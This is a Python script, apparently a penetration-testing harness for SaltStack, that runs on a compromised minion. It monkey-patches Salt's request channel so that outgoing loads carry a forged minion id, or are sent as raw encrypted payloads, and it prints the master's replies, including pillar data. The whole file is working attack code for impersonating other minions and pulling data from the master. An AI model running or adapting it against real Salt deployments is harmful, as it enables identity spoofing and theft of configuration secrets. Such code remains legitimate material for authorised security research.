"""What a minion that an intruder owns can ask of its master, by Salt's own channel. Prints JSON: question -> answer.

Run with Salt's Python on the minion; the questions come as JSON on standard input, each a load of Salt's protocol.
"""

import json
import sys

import salt.channel.client
import salt.config

opts = salt.config.minion_config("/etc/salt/minion")
opts["grains"] = {}
opts["master_uri"] = f"tcp://{opts['master']}:4506"
channel = salt.channel.client.ReqChannel.factory(opts, crypt="aes")
real = channel.obj._package_load
claim = {}


def lying(load, *arguments, **more):
    """Salt's client puts its own id into every load and on its envelope; here another, into the load or on both.

    A load that is "bare" is encrypted as it stands, without what Salt adds.
    """
    own = opts["id"]
    if claim["bare"]:
        sealed = channel.obj.auth.session_crypticle.dumps(claim["bare"])
        return {"enc": "aes", "load": sealed, "version": 3, "id": own}
    channel.obj.opts["id"] = claim["inside"] or own
    try:
        packed = real(load, *arguments, **more)
    finally:
        channel.obj.opts["id"] = own
    packed["id"] = claim["outside"] or own
    return packed


channel.obj._package_load = lying
in_clear = salt.channel.client.ReqChannel.factory(opts, crypt="clear")
answers = {}
for name, load in json.load(sys.stdin).items():
    claim = {
        "inside": load.pop("claim", None),
        "outside": load.pop("claim_outside", None),
        "bare": load.pop("bare", None),
    }
    try:
        if load["cmd"] == "_pillar":
            said = channel.crypted_transfer_decode_dictentry(load, dictkey="pillar", timeout=8, tries=1)
        else:
            said = (in_clear if load.pop("in_clear", False) else channel).send(load, timeout=8, tries=1)
    except Exception as error:
        said = f"refused: {type(error).__name__}"
    answers[name] = said
channel.close()
in_clear.close()
print(
    json.dumps(
        answers, default=lambda thing: thing.decode("utf-8", "replace") if isinstance(thing, bytes) else str(thing)
    )
)
